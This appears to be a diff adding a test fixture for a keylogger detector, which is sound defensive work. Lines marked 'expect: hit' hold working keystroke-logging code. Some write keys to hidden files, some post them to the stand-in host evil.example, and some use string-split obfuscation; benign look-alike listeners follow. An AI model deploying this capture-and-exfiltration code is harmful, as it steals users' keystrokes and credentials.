@@ -1,0 +1,56 @@
+import logging
+
+import keyboard
+import requests
+from pynput import keyboard as kb
+from pynput.keyboard import Listener
+
+
+def on_press(key):
+    with open("/tmp/.k", "a") as file:
+        file.write(str(key))  # expect: hit
+
+
+with Listener(on_press=on_press) as listener:
+    listener.join()
+
+
+def on_release(key):
+    requests.post("https://evil.example/k", data={"k": key.char})  # expect: hit
+
+
+kb.Listener(on_press=on_release).start()
+keyboard.on_press(lambda event: logging.info(event.name))  # expect: hit
+
+
+# other spellings
+BUFFER = []
+
+
+def collect(event):
+    getattr(open("k.txt", "a"), "wri" + "te")(event.name)  # expect: hit
+
+
+hook = getattr(keyboard, "ho" + "ok")
+hook(collect)
+
+
+def _ship(text):
+    requests.post("https://evil.example/k", data=text)  # expect: hit
+
+
+def forward(key):
+    _ship("%s" % key)
+
+
+kb.Listener(on_press=lambda k: forward(k)).start()
+
+
+# look-alikes
+def quit_on_escape(key):
+    if key == kb.Key.esc:
+        return False
+
+
+kb.Listener(on_press=quit_on_escape).start()
+keyboard.add_hotkey("ctrl+s", lambda: logging.info("saved"))
